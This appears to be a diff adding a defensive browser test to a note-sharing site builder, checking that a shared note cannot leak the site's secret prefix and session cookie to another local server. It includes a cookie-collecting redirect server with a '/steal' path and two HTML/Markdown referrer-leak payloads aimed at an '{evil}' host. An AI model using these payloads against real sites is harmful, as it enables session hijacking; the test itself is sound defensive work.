@@ -164,3 +164,101 @@ def test_a_colleagues_first_device_does_not_take_an_index_key_the_log_does_not_v
         register_device(root, tmp_path / "bea-config", Passphrase(BEA))
     assert not list((tmp_path / "bea-config").rglob("device.json"))
     assert verify(Vault(root, tmp_path / "alex-config")) != []
+
+
+class _Collector:
+    """Another server on 127.0.0.1 (any local program): it records the Referer and Cookie of
+    every request, and sends a browser that arrives with the site's address back to its own
+    port under the site's prefix, where the cookie's Path now matches (ports do not count)."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.referers: list[str] = []
+        self.cookies: list[str] = []
+        collector = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *args: object) -> None:
+                pass
+
+            def do_GET(self) -> None:  # noqa: N802
+                referer = self.headers.get("Referer") or ""
+                collector.referers.append(referer)
+                collector.cookies.append(self.headers.get("Cookie") or "")
+                self.send_response(302 if self.path == "/" and referer.count("/") > 3 else 200)
+                if self.path == "/" and referer.count("/") > 3:
+                    self.send_header("Location", "/" + referer.split("/")[3] + "/steal")
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+        self.thread.join()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        # a heading line kept its raw HTML: a refresh, with the full address as Referer
+        '## Plan <meta name="referrer" content="unsafe-url"><meta http-equiv="refresh" content="0;url={evil}/">',
+        # attr_list let a note's link carry its own referrer policy (one click)
+        'See [the worksheet]({evil}/){{: #go referrerpolicy="unsafe-url" }}',
+    ],
+)
+def test_a_shared_note_cannot_send_the_browser_with_the_sites_address_to_another_local_server(
+    tmp_path: Path, line: str
+) -> None:
+    """A colleague's shared note sends the browser, with the site's address as Referer, to a
+    server on another 127.0.0.1 port; that server learns the secret prefix, sends the
+    browser back to itself under it, and the browser hands it the session cookie (cookies
+    ignore ports), which then opens the site when replayed."""
+    import threading
+    import urllib.error
+    import urllib.request
+
+    from playwright.sync_api import sync_playwright
+    from site_fixtures import CHROMIUM_ARGS, note, require_chromium
+
+    from site_builder import build_shared_site, create, theme
+    from site_builder.server import SiteServer
+    from vault import OpenedNote
+
+    chromium = require_chromium()
+    collector = _Collector()
+    text = note("aaaaaaaaaaaaaaa1", "2026-02-02", body=line.format(evil=collector.origin) + "\n")
+    built = build_shared_site(
+        "AB-1", [OpenedNote("aaaaaaaaaaaaaaa1", 1, "2026-02-02", True, text.encode())], create(tmp_path), "b"
+    )
+    server = SiteServer(built.html, theme.script_hashes(built.html))
+    stop = threading.Event()
+    thread = threading.Thread(target=server.serve_until, args=(stop, 3600))
+    thread.start()
+    try:
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
+            page = browser.new_page()
+            page.goto(server.url)
+            page.wait_for_url(f"{server.origin}{server.prefix}/")
+            page.goto(f"{server.origin}{server.prefix}/sessions/2026-02.html")
+            for link in page.locator(f'a[href^="{collector.origin}"]').all():
+                link.click()  # the practitioner follows a link in the note
+            page.wait_for_timeout(1500)
+            browser.close()
+        assert not any(server.prefix in r for r in collector.referers), collector.referers
+        assert not any(collector.cookies), collector.cookies
+        for cookie in filter(None, collector.cookies):
+            replayed = urllib.request.Request(f"{server.origin}{server.prefix}/", headers={"Cookie": cookie})
+            with pytest.raises(urllib.error.HTTPError):
+                urllib.request.urlopen(replayed, timeout=5).close()
+    finally:
+        stop.set()
+        thread.join()
+        collector.close()
